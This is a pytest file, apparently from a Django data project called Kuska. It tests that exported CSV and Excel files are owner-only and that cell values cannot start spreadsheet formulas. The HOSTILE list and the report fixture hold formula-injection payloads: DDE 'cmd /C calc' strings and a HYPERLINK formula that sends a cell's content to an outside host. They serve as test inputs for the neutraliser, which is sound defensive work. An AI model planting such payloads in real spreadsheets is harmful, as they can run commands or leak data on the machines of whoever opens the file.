"""Files Kuska writes are readable by their owner only and never carry a formula a spreadsheet would run."""

from __future__ import annotations

import csv
import datetime
import io
import os
import stat
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from kuska.config.keys import _local_keys
from kuska.files import FORMULA_STARTS, make_private, neutralised, open_private, private_folder
from kuska.intake.errors import ErrorsWriter
from kuska.intake.messages import problem
from kuska.intake.submit import Rejection
from kuska.intake.template import write_template
from kuska.linkage.model import write_model
from kuska.linkage.models import ClusterAssignment, LinkageRun
from kuska.linkage.results import export
from kuska.linkage.shipped import load_shipped_model
from kuska.registry.models import PersonRecord
from kuska.reports import write_formats
from kuska.reports.model import Cell, Part, Report, Row, Section, Table
from kuska.reports.xlsx import render_xlsx
from kuska.synth import generate, write_dataset

HOSTILE = [
    '=HYPERLINK("http://example.com/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture(autouse=True)
def open_umask() -> object:
    """The umask of a careless shell: without Kuska's own care, files would be world-readable."""
    previous = os.umask(0o022)
    yield
    os.umask(previous)


@pytest.mark.parametrize("value", HOSTILE)
def test_a_value_that_starts_a_formula_gets_a_leading_quote(value: str) -> None:
    assert neutralised(value) == "'" + value


@pytest.mark.parametrize("value", ["-12", "-3.5", "+4", "-0,75", "1e-3", "Quispe", "", "P-1"])
def test_numbers_and_plain_text_stay_as_they_are(value: str) -> None:
    assert neutralised(value) == value


def test_numbers_that_are_numbers_stay_numbers() -> None:
    assert neutralised(-12) == -12
    assert neutralised(-3.5) == -3.5


def rejection_with_formulas() -> Rejection:
    problems = [problem(2, value, value, "not_in_code_list", list="sex") for value in HOSTILE]
    raw: dict[str, object] = {"record_id": HOSTILE[0], "sex": HOSTILE[1]}
    return Rejection(HOSTILE[2], HOSTILE[3], 2, raw, problems)


def starts_formula(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def test_the_errors_csv_starts_no_formula_and_is_private(tmp_path: Path) -> None:
    path = tmp_path / "rechazadas" / "errores.csv"
    with ErrorsWriter(path) as writer:
        writer.write(rejection_with_formulas())
    with path.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if starts_formula(cell)]
    assert "'" + HOSTILE[0] in cells
    assert (mode(path), mode(path.parent)) == (0o600, 0o700)


def test_the_errors_workbook_holds_text_not_formulas_and_is_private(tmp_path: Path) -> None:
    path = tmp_path / "errores.xlsx"
    path.write_bytes(b"")
    path.chmod(0o644)  # a file that was there before is narrowed too
    with ErrorsWriter(path) as writer:
        writer.write(rejection_with_formulas())
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if starts_formula(cell.value)]
    assert mode(path) == 0o600


def tiny_report() -> Report:
    table = Table(
        id="t",
        title="=1+1",
        corner="+región",
        columns=["@total", "-2+3"],
        rows=[Row("=cmd|' /C calc'!A0", [Cell("-5", value=-5), Cell("-", value=None)])],
        notes=["-nota"],
        number=1,
    )
    section = Section("s", "S", parts=[Part("p", "P", [table])])
    return Report(
        year=2020,
        lang="es",
        public=False,
        years=[2020],
        title="Informe",
        subtitle="2020",
        marking="Uso interno",
        marking_note="",
        generated=datetime.datetime(2021, 1, 1, tzinfo=datetime.UTC),
        sections=[section],
    )


def test_the_report_workbook_holds_text_not_formulas_and_negative_figures_stay_numbers() -> None:
    book = openpyxl.load_workbook(io.BytesIO(render_xlsx(tiny_report())))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if starts_formula(cell.value)]
    assert -5 in [cell.value for cell in cells]


def test_reports_are_written_private_in_a_private_folder(tmp_path: Path) -> None:
    out = tmp_path / "informes" / "2020"
    (written,) = write_formats(tiny_report(), ["xlsx"], out)
    assert (mode(written), mode(out), mode(out.parent)) == (0o600, 0o700, 0o700)


@pytest.mark.django_db
def test_the_template_is_private(peru: None, tmp_path: Path) -> None:
    path = tmp_path / "plantilla-PNP.xlsx"
    write_template(path, "PNP")
    assert mode(path) == 0o600


def test_local_keys_are_private_in_a_private_folder(tmp_path: Path) -> None:
    folder = tmp_path / "var"
    _local_keys(folder)
    (key_file,) = folder.iterdir()
    assert (mode(key_file), mode(folder)) == (0o600, 0o700)


def test_helpers_narrow_files_that_existed(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    path.write_text("old")
    path.chmod(0o644)
    with open_private(path) as handle:
        handle.write("new")
    assert (path.read_text(), mode(path)) == ("new", 0o600)
    path.chmod(0o644)
    make_private(path)
    assert (path.read_text(), mode(path)) == ("new", 0o600)
    existing = private_folder(tmp_path)  # a folder that existed is left as it is
    assert mode(existing) == stat.S_IMODE(tmp_path.stat().st_mode)


def test_the_sqlite_database_its_journals_and_its_folder_are_private(tmp_path: Path) -> None:
    var = tmp_path / "var"
    env = {k: v for k, v in os.environ.items() if k != "DATABASE_URL"}
    env["KUSKA_VAR_DIR"] = str(var)
    script = (  # the modes are read while the connection is open, its -wal and -shm files beside it
        "import os, stat, pathlib; os.umask(0o022)\n"
        "import django; os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'kuska.settings'); django.setup()\n"
        "from django.db import connection\n"
        "with connection.cursor() as c: c.execute('CREATE TABLE t (x int)'); c.execute('INSERT INTO t VALUES (1)')\n"
        f"var = pathlib.Path({str(var)!r})\n"
        "print(sorted((p.name, oct(stat.S_IMODE(p.stat().st_mode))) for p in var.iterdir() if p.is_file()))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script],
        env=env,
        check=True,
        timeout=120,
        capture_output=True,
        text=True,
    )
    modes = dict(eval(done.stdout))  # noqa: S307 - the list of pairs the script printed
    assert {"kuska.sqlite3", "kuska.sqlite3-wal", "kuska.sqlite3-shm"} <= set(modes)
    assert set(modes.values()) == {"0o600"}
    assert mode(var) == 0o700


@pytest.mark.django_db
def test_the_linkage_export_starts_no_formula_and_is_private(
    victim_for: Callable[..., PersonRecord], tmp_path: Path
) -> None:
    record = victim_for("PNP", HOSTILE[0])
    run = LinkageRun.objects.create(
        backend="duckdb", threshold=0.9, review_from=0.5, seed=1, trained=False, model={}
    )
    ClusterAssignment.objects.create(run=run, record=record, person_id=record.pk)
    path = tmp_path / "enlaces" / "personas.csv"
    assert export(run, path) == 1
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[1] == ["PNP", "'" + HOSTILE[0], str(record.pk)]
    assert (mode(path), mode(path.parent)) == (0o600, 0o700)


def test_a_saved_linkage_model_is_private_in_a_private_folder(tmp_path: Path) -> None:
    path = tmp_path / "linkage" / "model-run-1.json"
    write_model(load_shipped_model(), path)
    assert (mode(path), mode(path.parent)) == (0o600, 0o700)


def test_the_synthetic_data_set_is_private(peru: None, tmp_path: Path) -> None:
    out = tmp_path / "synth"
    write_dataset(generate((2020,), seed=3), out)
    written = [path for path in out.rglob("*") if path.is_file()]
    assert {path.name for path in written} >= {"truth.csv", "README.txt", "persons.csv"}
    assert {mode(path) for path in written} == {0o600}
    assert {mode(path) for path in (out, *out.iterdir()) if path.is_dir()} == {0o700}


@pytest.mark.django_db
def test_the_stats_csv_on_standard_output_starts_no_formula(
    peru: None, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from kuska.cli import main
    from kuska.stats import series

    # a place as an agency's file wrote it, grouped on: whatever reaches a cell is neutralised
    hostile = HOSTILE[:4]
    rows = [{"place": value, "value": 3, "rows": 1, "not_reported": 0} for value in hostile]
    monkeypatch.setattr(series, "series_by", lambda *args, **kwargs: rows)
    monkeypatch.setenv("KUSKA_LANGUAGE", "en")
    capsys.readouterr()
    assert main(["stats", "--series", "mininter", "--by", "place", "--format", "csv"]) == 0
    found = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert [row[0] for row in found[1:]] == ["'" + value for value in hostile]
